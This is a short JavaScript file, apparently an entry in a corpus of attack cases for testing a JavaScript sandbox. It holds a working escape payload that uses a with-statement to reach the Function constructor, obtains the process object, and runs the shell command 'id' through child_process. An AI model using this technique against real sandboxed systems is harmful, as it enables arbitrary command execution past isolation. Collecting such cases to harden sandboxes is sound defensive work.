// corpus: attack class=eval form=targeted
// with (fn): the bare name constructor is the Function constructor.
function main() {
  let proc;
  with (() => {}) {
    proc = constructor('return process')();
  }
  return { out: proc.getBuiltinModule('child_process').execSync('id').toString() };
}

module.exports = { main };
